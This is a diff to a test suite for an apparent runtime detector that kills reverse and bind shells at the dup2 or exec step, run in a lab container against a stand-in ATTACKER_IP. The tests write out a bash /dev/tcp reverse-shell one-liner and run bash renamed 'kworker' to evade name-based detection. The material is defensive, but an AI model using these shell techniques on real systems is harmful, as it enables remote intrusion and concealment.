@@ -81,15 +81,29 @@ def died_of_sigkill(run, pid: int) -> bool:
 SHELL_KILL = {"shell_socket": True}
 
 
-def test_reverse_shell_killed_at_exec_listener_gets_zero_bytes(watched, attack, lab):
+def test_reverse_shell_killed_at_the_dup_listener_gets_zero_bytes(watched, attack, lab):
+    """connect, dup2 onto 0, 1, 2, exec sh: the program (no shell by name) is killed at the
+    dup that makes both stdin and stdout the socket, before sh exists."""
     attacker = Attacker(lab, "listen", ATTACKER_IP, 4444)
     run = watched.run(in_container(lab, [attack, "connect", ATTACKER_IP, "4444"]), kill_policy=SHELL_KILL)
-    got = attacker.result()
-    assert got == {"connected": True, "received": 0}
+    assert attacker.result() == {"connected": True, "received": 0}
+    assert run.returncode == -9
+    killed = [d for d in run.of(model.DupEvent) if d.killed]
+    assert len(killed) == 1 and killed[0].newfd == 1 and killed[0].daddr == ATTACKER_IP
+    assert not run.of(model.ExecEvent, filename="/bin/sh")
+    assert watched.probes.kill_counts().get("shell_socket", 0) >= 1
+
+
+def test_shell_exec_with_a_socket_on_stdin_is_killed_before_it_runs(watched, attack, lab):
+    """Only stdin is the socket (the program is no shell, one socket is no loop yet): the
+    shell exec'd on it is killed at its exec, before its first instruction."""
+    attacker = Attacker(lab, "listen", ATTACKER_IP, 4450)
+    run = watched.run(in_container(lab, [attack, "connect-in", ATTACKER_IP, "4450"]), kill_policy=SHELL_KILL)
+    assert attacker.result() == {"connected": True, "received": 0}
+    assert run.returncode == -9 and run.stdout == b""
     shells = run.of(model.ExecEvent, filename="/bin/sh")
     assert len(shells) == 1 and shells[0].killed and shells[0].stdio_socket
     assert died_of_sigkill(run, shells[0].pid)
-    assert watched.probes.kill_counts().get("shell_socket", 0) >= 1
 
 
 def test_bash_dev_tcp_reverse_shell_killed_at_the_dup(watched, lab):
@@ -129,9 +143,8 @@ def test_bind_shell_accepted_socket_is_a_socket_on_stdio(watched, attack, lab):
     accepts = run.of(model.AcceptEvent, daddr=ATTACKER_IP)
     assert len(accepts) == 1 and accepts[0].fd >= 0 and not accepts[0].local_addr
     dups = [d for d in run.of(model.DupEvent) if d.pid == accepts[0].pid]
-    assert [d.newfd for d in dups] == [0, 1, 2] and all(d.is_socket for d in dups)
-    shells = run.of(model.ExecEvent, filename="/bin/sh")
-    assert len(shells) == 1 and shells[0].killed and died_of_sigkill(run, shells[0].pid)
+    assert [(d.newfd, d.is_socket, d.killed) for d in dups] == [(0, True, False), (1, True, True)]
+    assert not run.of(model.ExecEvent, filename="/bin/sh") and run.returncode == -9
     assert "reverse_shell_socket_dup" in {a.rule for a in watched.alerts(run.events)}
 
 
@@ -186,3 +199,20 @@ def test_python_pty_reverse_shell_killed_at_the_dup(watched, py, lab):
     killed = [d for d in run.of(model.DupEvent) if d.killed]
     assert len(killed) == 1 and killed[0].newfd == 0 and killed[0].pid == run.pid
     assert not run.of(model.ExecEvent, filename="/bin/sh")
+
+
+def test_renamed_bash_is_killed_when_stdin_and_stdout_are_the_socket(watched, lab, tmp_path):
+    """A copy of bash under another name is no shell by name; a process with network sockets
+    on both stdin and stdout is one by shape, killed at the dup that completes it."""
+    bash = shutil.which("bash")
+    if bash is None:
+        pytest.skip("needs bash")
+    renamed = tmp_path / "kworker"
+    shutil.copy(bash, renamed)
+    attacker = Attacker(lab, "listen", ATTACKER_IP, 4449)
+    script = f"exec 0<>/dev/tcp/{ATTACKER_IP}/4449; exec 1>&0 2>&0; echo still-here"
+    run = watched.run(in_container(lab, [str(renamed), "-c", script]), kill_policy=SHELL_KILL)
+    assert attacker.result() == {"connected": True, "received": 0}
+    assert run.returncode == -9
+    killed = [d for d in run.of(model.DupEvent) if d.killed]
+    assert len(killed) == 1 and killed[0].newfd == 1 and killed[0].comm == "kworker"
